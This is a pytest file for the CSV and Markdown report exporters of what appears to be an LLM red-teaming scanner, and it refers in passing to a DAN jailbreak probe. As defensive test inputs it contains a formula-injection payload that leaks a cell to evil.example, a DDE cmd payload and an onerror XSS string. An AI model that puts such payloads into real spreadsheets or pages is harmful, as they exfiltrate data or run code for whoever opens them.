"""CSV and Markdown rendering: round trips, formula injection, and a table the target cannot break."""

from __future__ import annotations

import csv
import io
import json
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import cmarkgfm
import pytest
from cmarkgfm.cmark import Options

from app.engine.probes.registry import get_probe
from app.reports.csv_export import COLUMNS, neutralise, render_csv
from app.reports.markdown import code_span, escape, render_markdown

FIXTURES = Path(__file__).resolve().parents[2] / "fixtures" / "reports"
HOSTILE = "a | b ``` `x` <img src=x onerror=alert(1)> **bold** [link](https://evil.example) @octocat $x$ \\| end"


def load(name: str) -> dict[str, Any]:
    data: dict[str, Any] = json.loads((FIXTURES / f"scan-result-{name}.json").read_text(encoding="utf-8"))
    return data


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


# ---- CSV ----------------------------------------------------------------------------------------------------


def test_csv_round_trips_every_finding() -> None:
    result = load("vulnerable")
    header, *rows = read_csv(render_csv(result))
    assert header == list(COLUMNS)
    assert len(rows) == len(result["findings"]) == 34
    for row, finding in zip(rows, result["findings"], strict=True):
        cell = dict(zip(header, row, strict=True))
        assert cell["probe_id"] == finding["probe_id"]
        assert cell["title"] == finding["title"]
        assert cell["severity"] == finding["severity"]
        assert float(cell["asr"]) == finding["asr"]
        assert [float(cell["asr_low"]), float(cell["asr_high"])] == finding["asr_ci95"]
        assert int(cell["vulnerable"]) == finding["counts"]["vulnerable"]
        assert int(cell["attempts"]) == finding["attempts"]
        assert cell["strategy_stacks"].split() == finding["strategy_stacks"]
        assert cell["remediation"] == get_probe(finding["probe_id"]).remediation
        assert cell["evidence_prompt"] == finding["evidence"][0]["prompt"]  # multi-line text survives intact
        assert cell["evidence_response"] == finding["evidence"][0]["response"]


def test_csv_of_a_clean_scan_is_just_the_header() -> None:
    assert read_csv(render_csv(load("clean"))) == [list(COLUMNS)]


def test_csv_neutralises_formulas_from_the_target() -> None:
    result = load("vulnerable")
    payload = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
    result["findings"][0]["evidence"][0]["response"] = payload
    result["findings"][0]["evidence"][0]["prompt"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    rows = read_csv(render_csv(result))
    cell = dict(zip(rows[0], rows[1], strict=True))
    assert cell["evidence_response"] == "'" + payload
    assert cell["evidence_prompt"] == "'@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start: str) -> None:
    assert neutralise(f"{start}1+1") == f"'{start}1+1"


def test_harmless_cells_are_left_alone() -> None:
    assert neutralise("plain text = fine") == "plain text = fine"
    assert neutralise("line one\nline two") == "line one\nline two"
    assert neutralise("nul\x00 and \ud800") == "nul\ufffd and \ufffd"
    assert neutralise(None) == ""


def test_csv_copes_with_a_probe_missing_from_the_catalogue() -> None:
    result = load("vulnerable")
    result["findings"][0]["probe_id"] = "garak.dan.dan_11_0"
    result["findings"][0]["title"] = "-1+1 imported title"
    rows = read_csv(render_csv(result))
    cell = dict(zip(rows[0], rows[1], strict=True))
    assert cell["probe_id"] == "garak.dan.dan_11_0"
    assert cell["title"] == "'-1+1 imported title"
    assert cell["remediation"] == ""


# ---- Markdown -----------------------------------------------------------------------------------------------


class Tags(HTMLParser):
    """Collects the elements of rendered HTML and the cells of each table row."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.rows: list[int] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        if tag == "tr":
            self.rows.append(0)
        if tag in ("td", "th"):
            self.rows[-1] += 1


def render_html(markdown: str) -> Tags:
    """GitHub's own Markdown engine, with raw HTML let through so nothing is hidden by its filter."""
    html = cmarkgfm.github_flavored_markdown_to_html(markdown, options=Options.CMARK_OPT_UNSAFE)
    parser = Tags()
    parser.feed(html)
    return parser


def table_rows(markdown: str) -> list[str]:
    return [line for line in markdown.splitlines() if line.startswith("| ") and not line.startswith("| Severity")]


def test_markdown_of_a_vulnerable_scan() -> None:
    result = load("vulnerable")
    text = render_markdown(result)
    assert "❌ **34 findings**" in text
    assert "Risk score: **75.3** / 100" in text
    assert "88 vulnerable · 60 safe · 0 refused · 0 error · 0 blocked · 0 unscored" in text
    rows = table_rows(text)
    assert len(rows) == 20
    assert "…and 14 more findings" in text
    first = result["findings"][0]
    assert rows[0].startswith(f"| {first['severity']} | {first['title']} (`{first['probe_id']}`) | {first['owasp']} |")
    assert "| 100% (34%–100%) |" in rows[0]
    assert "Note:" not in text  # no errors, no note
    html = render_html(text)
    assert html.rows == [6] * 21  # header + 20 rows, six cells each (the triage column included)


def test_markdown_of_a_clean_scan() -> None:
    text = render_markdown(load("clean"))
    assert "✅ **Pass**" in text
    assert "|" not in text
    assert "148 refused" in text


def test_markdown_of_an_inconclusive_scan() -> None:
    text = render_markdown(load("inconclusive"))
    assert "❌ **14 findings** (and the scan is inconclusive" in text
    assert "> **Note:** 1 attempt (3.0%) ended in error" in text
    assert "the risk score means nothing" in text
    assert "> 1 probe had no scored attempt" in text
    assert len(table_rows(text)) == 14
    assert "more finding" not in text


def test_inconclusive_without_findings_says_so() -> None:
    result = load("inconclusive")
    result["findings"] = []
    assert "⚠️ **Inconclusive**" in render_markdown(result)


def test_hostile_evidence_neither_breaks_the_table_nor_injects_html() -> None:
    result = load("vulnerable")
    result["target"] = "evil|<img src=x onerror=alert(1)>"
    finding = result["findings"][0]
    finding["title"] = "Title with | pipe, <b>tag</b>, *stars* and `ticks`"
    finding["evidence"][0]["detectors"][0]["matched"] = HOSTILE
    result["findings"][1]["evidence"] = [{"response": "`` | <img src=x onerror=alert(1)>\n| --- |", "detectors": []}]
    text = render_markdown(result)
    html = render_html(text)
    assert html.rows == [6] * 21  # the triage column included
    assert not {"img", "a", "b", "em", "script"} & set(html.tags)
    table = html.tags[html.tags.index("table") :]
    assert set(table) <= {"table", "thead", "tbody", "tr", "th", "td", "code", "p"}
    rendered = cmarkgfm.github_flavored_markdown_to_html(text, options=Options.CMARK_OPT_UNSAFE)
    assert "&lt;img src=x onerror=alert(1)&gt;" in rendered  # shown as text
    assert "<code>evil|&lt;img src=x onerror=alert(1)&gt;</code>" in rendered
    assert "Title with | pipe, &lt;b&gt;tag&lt;/b&gt;, *stars* and `ticks`" in rendered
    assert re.search(r"<code>a \| b ``` `x` &lt;img src=x onerror=alert\(1\)&gt; \*\*bold\*\* ", rendered)


def test_code_span_fences_past_any_backtick_run() -> None:
    assert code_span("plain") == "`plain`"
    assert code_span("has `one` tick") == "``has `one` tick``"
    assert code_span("```") == "```` ``` ````"
    assert code_span("a|b") == "`a\\|b`"
    assert code_span("") == "—"
    assert code_span("x" * 100) == "`" + "x" * 59 + "…`"
    assert code_span("bidi\u202etxt.exe\nnext") == "`bidi\ufffdtxt.exe next`"


def test_escape_makes_markdown_literal() -> None:
    for raw in ["*a* _b_ [c](d) <e> f|g `h` ~i~ $j$ &amp; ![k](l) \\m"]:
        html = cmarkgfm.github_flavored_markdown_to_html(escape(raw), options=Options.CMARK_OPT_UNSAFE)
        assert html == "<p>*a* _b_ [c](d) &lt;e&gt; f|g `h` ~i~ $j$ &amp;amp; ![k](l) \\m</p>\n"
